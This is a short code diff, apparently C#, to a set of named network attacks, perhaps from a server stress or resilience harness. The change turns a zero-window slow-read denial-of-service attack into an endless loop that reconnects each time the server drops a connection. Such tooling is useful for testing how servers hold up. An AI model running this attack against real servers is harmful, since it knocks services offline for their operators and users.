@@ -18,8 +18,22 @@ internal sealed record Attack(string Name, Func<Uri, CancellationToken, Task> Ru
         new("forged-traffic", ForgedTrafficAsync),
     ];
 
-    // The windows stay at nothing, so that no byte of the pages can leave.
+    // The windows stay at nothing, so that no byte of the pages can leave. When the server has had enough of a connection, the next one comes.
     private static async Task ZeroWindowAsync(Uri url, CancellationToken cancellation)
+    {
+        while (true)
+        {
+            try
+            {
+                await TakeNothingAsync(url, cancellation);
+            }
+            catch (IOException) when (!cancellation.IsCancellationRequested)
+            {
+            }
+        }
+    }
+
+    private static async Task TakeNothingAsync(Uri url, CancellationToken cancellation)
     {
         await using var line = await FrameLine.OpenAsync(url, window: 0, receiveBuffer: null, cancellation);
         for (var i = 0; i < 70; i++)
